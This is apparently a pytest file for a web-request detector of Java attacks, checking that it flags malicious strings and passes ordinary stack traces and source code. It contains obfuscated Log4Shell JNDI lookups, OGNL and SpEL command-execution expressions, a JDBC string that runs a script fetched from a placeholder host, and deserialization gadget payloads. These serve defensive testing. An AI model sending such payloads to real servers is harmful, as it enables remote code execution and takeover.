"""Look-ups, expressions, gadgets and serialised objects of Java are found; stack traces and source code are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.weighed import assert_linear, match_examples, wants_what_it_finds, weight

from doorward.attacks.detectors.java import DEEPEST, looked_up
from doorward.attacks.evidence import Place

FILLER = "the cat sat on the mat and looked at us for a long time while it rained "


@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://h.example/a}",
        "${JNDI:rmi://h.example:1099/a}",
        "${ jndi:dns://h.example}",
        "${${lower:j}ndi:ldap://h.example}",
        "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://h.example}",
        "${jn${upper:d}i:dns://h.example}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example}",
        "${${env:A:-j}ndi${env:B:-:}ldap://h.example}",
        "${${date:'j'}ndi:ldap://h.example}",
        "$${env:A:-${env:B:-$}{jndi:ldap://h.example}}}",
        "${${a:b:${c:d:-j}:-j}ndi:ldap://h.example}",
        "${jnd${upper:\u0131}:ldap://h.example}",
    ],
    ids=ascii,
)
def test_look_ups_in_any_disguise(text: str) -> None:
    """CVE-2021-44228: plain, and with letters that come from other look-ups; in an agent, and in long filler."""
    assert weight("java", text) >= 1.0
    assert weight("java", f"Mozilla/5.0 ({text}) Gecko", Place.HEADER, "user-agent") >= 1.0
    assert weight("java", FILLER * 10 + text + FILLER * 10) >= 1.0


@pytest.mark.parametrize(
    ("text", "result"),
    [
        ("${${lower:J}ndi:x}", "${jndi:x}"),
        ("${${upper:j}}", "${J}"),
        ("${a:-${b:-c}}", "c"),
        ("${${::-a}${::-b}}", "${ab}"),
        ("a ${b", "a ${b"),
        ("}a}", "}a}"),
        ("$a$$", "$a$$"),
        ("${env:HOME}", "${env:HOME}"),
        ("${date:'j'}", "j"),
        ("", ""),
    ],
    ids=ascii,
)
def test_what_look_ups_come_to(text: str, result: str) -> None:
    """Innermost first; what is not known stays as it is."""
    assert looked_up(text) == result


def nested(depth: int) -> str:
    return "${lower:" * depth + "jndi" + "}" * depth


@given(st.integers(min_value=1, max_value=DEEPEST - 1))
def test_look_ups_are_followed_to_a_depth(depth: int) -> None:
    """As deep as is said."""
    assert looked_up(nested(depth)) == "jndi"


def test_deeper_ones_stay() -> None:
    """So that the cost is bounded."""
    assert looked_up(nested(4 * DEEPEST)) != "jndi"
    assert len(looked_up("${" * 4_000 + "a" * 600)) <= 8_600


@given(st.text(alphabet="${}:-'abjndilowerupper", max_size=200))
def test_looking_up_ends_and_does_not_grow(text: str) -> None:
    """Whatever it is given."""
    assert len(looked_up(text)) <= len(text)


@pytest.mark.parametrize(
    "text",
    [
        "java.lang.Runtime",
        "java.io.FileInputStream",
        "com.sun.rowset.JdbcRowSetImpl",
        "javax.script.ScriptEngineManager",
        "com.opensymphony.xwork2",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.omg.CORBA",
        "java.ProcessBuilder",
        "'java.lang.ProcessBuilder'",
    ],
    ids=ascii,
)
def test_names_of_classes_alone(text: str) -> None:
    """As a value or as a name; less in a search field, unless it is one that starts programs."""
    assert weight("java", text) >= 1.0


def test_names_of_classes_prove_less_in_search_fields() -> None:
    """Where people look them up."""
    assert weight("java", "java.util.HashMap", name="q") < 1.0 <= weight("java", "java.util.HashMap", name="type")


@pytest.mark.parametrize(
    "text",
    [
        "Runtime.getRuntime().exec('id')",
        "new java.lang.ProcessBuilder(a).start()",
        "''.getClass().forName('a.B')",
        "T(java.lang.Math).random()",
        "%{(#a=@a.B@c())}",
        "(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
        "#_memberAccess['a']=true",
        "%{8*8}",
        "redirect:${#a=1}",
        "class.module.classLoader.resources.context",
        "new javax.script.ScriptEngineManager().getEngineByName('js')",
        "'id'.execute().text",
        "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'",
        "$$BCEL$$$l$8b",
    ],
    ids=ascii,
)
def test_expressions_and_bindings(text: str) -> None:
    """Of Java itself, OGNL, SpEL, Groovy, Spring, JDBC."""
    assert weight("java", text) >= 1.0


@pytest.mark.parametrize(
    "text",
    [
        "\xac\xed\x00\x05sr\x00\x11java",
        "\ufffd\ufffd\x00\x05t\x00",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        "<java version='1.8' class='java.beans.XMLDecoder'>",
        "<object class='java.lang.ProcessBuilder'>",
        "<java.util.PriorityQueue>",
        "<dynamic-proxy><interface>a.B</interface>",
    ],
    ids=ascii,
)
def test_serialised_objects(text: str) -> None:
    """In Java's own form, in JSON, in XML."""
    assert weight("java", text) >= 1.0


@pytest.mark.parametrize(
    ("name", "is_run"), [("a.jsp", True), ("a.jspx. ", True), ("a.war", True), ("a.java", False), ("jsp", False)]
)
def test_files_that_a_server_runs(name: str, is_run: bool) -> None:
    """As a file's name only."""
    assert (weight("java", name, Place.FILENAME) >= 1.0) is is_run
    assert weight("java", name, Place.QUERY) == 0.0


@pytest.mark.parametrize(
    "text",
    [
        "java.lang.NullPointerException",
        "org.mozilla.firefox",
        "com.example.app",
        "https://www.java.com/de/",
        "import java.util.List;",
        "\tat java.lang.Thread.run(Thread.java:748)",
        "java.lang.IllegalStateException: null\n\tat java.lang.reflect.Method.invoke(Method.java:498)",
        'System.out.println("hi"); // java',
        "${name}",
        "${A:-${B:-c}}",
        "LogFormat %{Referer}i",
        "50%{of}",
        "T(n) = 2T(n/2)",
        "class ClassLoader",
        "{'@type': 'Person'}",
        "jdbc:mysql://localhost/shop?useSSL=false",
        "the sun.net is up",
        "action: buy",
        "issue (#42)",
        "javascript.info",
    ],
    ids=ascii,
)
def test_what_people_and_programs_write_passes(text: str) -> None:
    """Exceptions, packages of apps, traces, placeholders, addresses."""
    assert weight("java", text) < 1.0


TRACE = """Our job fails at night with this trace, and we do not know why; can anybody help?
java.lang.reflect.InvocationTargetException
\tat java.base/jdk.internal.reflect.NativeMethodAccessorImpl.invoke(NativeMethodAccessorImpl.java:62)
\tat org.springframework.context.support.ClassPathXmlApplicationContext.refresh(ClassPathXmlApplicationContext.java:12)
Caused by: java.lang.IllegalStateException: Runtime.getRuntime() is not there"""
SOURCE = """import java.io.File;
public class Main {
    public static void main(String[] args) throws Exception {
        // how do we start a program from here, and read what it prints?
        Process process = new ProcessBuilder("ls", "-l").start();
        Runtime.getRuntime().exec("ls");
    }
}"""


@pytest.mark.parametrize("text", [TRACE, SOURCE], ids=["trace", "source"])
def test_technical_texts_pass(text: str) -> None:
    """Many words around it."""
    assert weight("java", text) < 1.0


@pytest.mark.parametrize(
    "unit",
    [
        "${",
        "${${",
        "${lower:",
        "${a:-",
        "}",
        "java.",
        "java.a.",
        "jdbc:",
        "%{",
        "(#a=",
        "getRuntime(",
        "<object ",
        "t(java",
    ],
)
def test_work_doubles_with_the_text(unit: str) -> None:
    """Twice the text is twice the work, and a bound for each character."""
    assert_linear("java", unit, 80)


@given(st.sampled_from(match_examples("java")), st.text(max_size=20), st.text(max_size=20))
def test_the_screen_is_one_sided(example: str, before: str, after: str) -> None:
    """Where something is found, the detector wants the text, also joined with others."""
    assert wants_what_it_finds("java", f"{before}{example}{after}")
